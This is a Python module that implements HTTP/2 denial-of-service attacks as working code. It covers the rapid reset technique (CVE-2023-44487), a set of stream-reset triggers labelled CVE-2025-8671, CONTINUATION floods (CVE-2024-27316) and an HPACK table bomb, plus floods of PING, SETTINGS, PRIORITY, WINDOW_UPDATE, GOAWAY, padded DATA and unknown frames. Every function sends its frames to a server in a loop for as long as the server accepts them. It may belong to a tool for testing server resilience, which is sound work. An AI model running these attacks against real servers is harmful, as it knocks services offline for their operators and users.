"""Attacks by HTTP/2 frames, sent as fast as the server takes them."""

from . import frames as h2
from .attacker import drain

GET = h2.head(path="/")
POST = h2.head("POST", "/api/v1/measurements")
CHUNK = 64 * 1024
STREAMS_IN_A_CHUNK = 500
STREAM_MAX = 1 << 30


def _flood(attacker, frame, opening=b"", reads=True):
    """The same frame over and over."""
    chunk = frame * max(1, CHUNK // len(frame))

    def once():
        with attacker.http2() as wire:
            attacker.send(wire, opening)
            while not attacker.is_over():
                attacker.send(wire, chunk)
                if reads:
                    drain(wire)
    attacker.again_and_again(once)


def _streams(attacker, make, reads=True, settings=()):
    """New streams over and over; make(id): the bytes of one."""
    def once():
        with attacker.http2(*settings) as wire:
            for first in range(1, STREAM_MAX, 2 * STREAMS_IN_A_CHUNK):
                attacker.send(wire, b"".join(make(first + 2 * i) for i in range(STREAMS_IN_A_CHUNK)))
                if reads:
                    drain(wire)
                if attacker.is_over():
                    return
    attacker.again_and_again(once)


def rapid_reset(attacker):
    """CVE-2023-44487: requests that are taken back at once."""
    _streams(attacker, lambda id: h2.headers(id, GET) + h2.reset(id))


# CVE-2025-8671: what makes a server reset a stream itself, its request already in work.
FAULTS = (
    lambda id: h2.headers(id, GET) + h2.window_update(id, h2.WINDOW_MAX),
    lambda id: h2.headers(id, GET) + h2.window_update(id, 0),
    lambda id: h2.headers(id, GET) + h2.data(id, b"x"),
    lambda id: h2.headers(id, GET) + h2.headers(id, GET),
    lambda id: h2.headers(id, GET) + h2.frame(h2.PRIORITY, 0, id, bytes(4)),
    lambda id: h2.headers(id, GET) + h2.priority(id, id),
    lambda id: h2.headers(id, h2.head("POST", "/api/v1/measurements", ("content-length", "1")), end=False) + h2.data(id, b"xx"),
    lambda id: h2.headers(id, h2.head("GET", "/", ("connection", "close"))),
)


def made_you_reset(attacker):
    _streams(attacker, lambda id: FAULTS[id // 2 // STREAMS_IN_A_CHUNK % len(FAULTS)](id))


def made_you_reset_in_turns(attacker):
    _streams(attacker, lambda id: FAULTS[id // 2 % len(FAULTS)](id))


def resets_unread(attacker):
    """More streams than are allowed, from one who has not acknowledged that limit and reads none of the resets."""
    _streams(attacker, lambda id: h2.headers(id, POST, end=False), reads=False)


def answers_unread(attacker):
    """Requests as fast as they are taken; no answer is read."""
    _streams(attacker, lambda id: h2.headers(id, GET), reads=False)


def continuations(attacker):
    """CVE-2024-27316: a header that does not end, by empty frames."""
    _flood(attacker, h2.continuation(1, flags=0), opening=h2.headers(1, GET, flags=0))


def large_continuations(attacker):
    _flood(attacker, h2.continuation(1, h2.literal("x-long", "a" * 16000), flags=0), opening=h2.headers(1, GET, flags=0))


def pings(attacker):
    _flood(attacker, h2.ping())


def settings(attacker):
    _flood(attacker, h2.settings((h2.INITIAL_WINDOW_SIZE, 65535), (h2.HEADER_TABLE_SIZE, 0)))


def settings_unread(attacker):
    _flood(attacker, h2.settings(), reads=False)


def empty_data(attacker):
    _flood(attacker, h2.data(1), opening=h2.headers(1, POST, end=False))


def padding(attacker):
    """DATA of nothing but padding."""
    _flood(attacker, h2.data(1, b"\x00", flags=h2.PADDED), opening=h2.headers(1, POST, end=False))


def empty_headers(attacker):
    _streams(attacker, lambda id: h2.headers(id, b""))


def trailers(attacker):
    """Header blocks without end for one stream."""
    _flood(attacker, h2.headers(1, h2.block(("x-a", "b")), end=False), opening=h2.headers(1, POST, end=False))


def priorities(attacker):
    _flood(attacker, h2.priority(3))


def window_updates(attacker):
    """One for each stream and the connection, small enough to overflow nothing."""
    _flood(attacker, h2.window_update(1, 1), opening=h2.headers(1, POST, end=False))


def unknown_frames(attacker):
    _flood(attacker, h2.frame(0xbe))


def goaways(attacker):
    _flood(attacker, h2.goaway())


def hpack_bomb(attacker):
    """A field of 4,000 bytes in the table, then named by one byte each."""
    bomb = h2.literal("x-large", "a" * 4000, 0x40)
    first = h2.headers(1, GET + bomb)

    def once():
        with attacker.http2() as wire:
            attacker.send(wire, first)
            for number in range(3, STREAM_MAX, 2):
                attacker.send(wire, h2.headers(number, GET + b"\xbe" * 16000))
                drain(wire)
                if attacker.is_over():
                    return
    attacker.again_and_again(once)


def requests(attacker):
    """Whole requests, answers read: no breach of any rule, only many of them."""
    _streams(attacker, lambda id: h2.headers(id, GET))
